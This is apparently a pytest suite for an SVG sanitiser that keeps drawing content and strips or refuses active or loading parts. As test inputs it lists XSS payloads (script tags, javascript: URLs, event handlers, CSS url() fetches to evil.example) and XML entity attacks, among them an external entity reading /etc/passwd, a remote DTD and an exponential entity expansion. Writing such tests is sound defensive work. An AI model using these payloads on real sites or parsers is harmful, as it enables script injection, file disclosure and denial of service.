"""SVG from strangers: the drawing stays, what acts or loads goes."""

import re
from xml.etree import ElementTree

import pytest

from changqing.content.svg import clean_svg

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 40">'
DRAWING = (
    '<title>花盆</title><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
    '<symbol id="leaf"><path d="M0 0h9"/></symbol></defs><g transform="scale(2)">'
    '<rect fill="url(#g)" width="4" height="5"/>'
    '<use href="#leaf"/><use xlink:href="#leaf"/><text x="1" font-size="8">三月<tspan>四月</tspan></text></g>'
)


def cleaned(inside: str) -> str:
    return clean_svg(f"{OPEN}{inside}</svg>".encode())[0].decode()


def test_the_drawing_stays_whole() -> None:
    found = cleaned(DRAWING)
    for part in (
        "花盆",
        "linearGradient",
        'fill="url(#g)"',
        'transform="scale(2)"',
        'd="M0 0h9"',
        "三月",
        "四月",
        "<title",
    ):
        assert part in found
    assert len(re.findall(r'href="#leaf"', found)) == 2


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        '<script href="//evil.example/x.js"/>',
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>evil<script>alert(1)</script></body></foreignObject>",
        '<image href="https://evil.example/x.png"/>',
        '<image xlink:href="data:image/png;base64,evil"/>',
        '<use href="https://evil.example/x.svg#a"/>',
        '<use xlink:href="javascript:alert(1)"/>',
        '<use href="data:image/svg+xml,evil#a"/>',
        '<a href="javascript:alert(1)"><text>evil</text></a>',
        "<style>@import url(//evil.example/x.css);</style>",
        "<style>rect{fill:url(https://evil.example/x)}</style>",
        '<rect style="fill:url(https://evil.example/x)"/>',
        '<rect style="fill:u\\72l(https://evil.example/x)"/>',
        "<rect style='fill:url(\"//evil.example/x\")'/>",
        '<rect fill="URL( //evil.example/x )"/>',
        '<rect filter="url(evil.svg#f)"/>',
        '<rect onclick="alert(1)" onload="evil()" ONMOUSEOVER="evil()"/>',
        '<animate attributeName="href" values="javascript:alert(1)"/>',
        '<set attributeName="onmouseover" to="evil()"/>',
        '<animateTransform attributeName="transform" type="rotate"/>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">evil</handler>',
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example"/>',
        '<rect xmlns:evil="urn:evil" evil:thing="evil"/>',
        '<?xml-stylesheet href="//evil.example/x.css"?>',
        "<!-- evil -->",
        '<feImage href="//evil.example/x.png"/>',
    ],
)
def test_what_acts_or_loads_is_taken_out_and_the_drawing_stays(attack: str) -> None:
    found = cleaned(f"{attack}{DRAWING}<g>{attack}</g>")
    for word in (
        "evil",
        "alert",
        "script",
        "style=",
        "<style",
        "foreign",
        "animate",
        "<set",
        "data:",
        "<image",
        "onclick",
    ):
        assert word not in found.replace("http://www.w3.org", ""), found
    assert "三月" in found
    assert 'd="M0 0h9"' in found


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaa">]>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
        "<!DOCTYPE svg ["
        + '<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
        + '<!ENTITY a "&a11;">]>',
    ],
)
def test_entities_are_refused(declared: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{declared}{OPEN}<text>&a;</text></svg>'
    with pytest.raises(ValueError, match="the SVG"):
        clean_svg(text.encode(encoding))


def test_the_doctype_that_drawing_programs_write_is_taken() -> None:
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    found, _width, _height = clean_svg(f'<?xml version="1.0"?>{doctype}{OPEN}{DRAWING}</svg>'.encode())
    assert "三月" in found.decode()


@pytest.mark.parametrize(
    "body",
    [b"", b"<svg", b"\x89PNG", b"<html/>", b"<svg/>", f"{OPEN}{'<g>' * 20_000}{'</g>' * 20_000}</svg>".encode()],
)
def test_what_is_no_svg_is_refused_with_a_reason(body: bytes) -> None:
    with pytest.raises(ValueError, match="SVG"):
        clean_svg(body)


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('viewBox="0 0 640 400"', (640, 400)),
        ('viewBox="0,0,640.4,400"', (640, 400)),
        ('width="300px" height="200px"', (300, 200)),
        ('viewBox="broken" width="30" height="20"', (30, 20)),
        ('viewBox="0 0 nan nan"', (400, 400)),
        ('viewBox="0 0 1e999 5"', (400, 400)),
        ('width="1.2.3" height="50%"', (1, 50)),
        ("", (400, 400)),
    ],
)
def test_the_size_is_said_also_where_the_drawing_says_it_badly(attributes: str, size: tuple[int, int]) -> None:
    body, width, height = clean_svg(f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}/>'.encode())
    assert (width, height) == size
    assert ElementTree.fromstring(body).get("width") == str(width)


def test_what_is_clean_stays_the_same_when_cleaned_again() -> None:
    once, _width, _height = clean_svg(f"{OPEN}{DRAWING}</svg>".encode())
    assert clean_svg(once)[0] == once
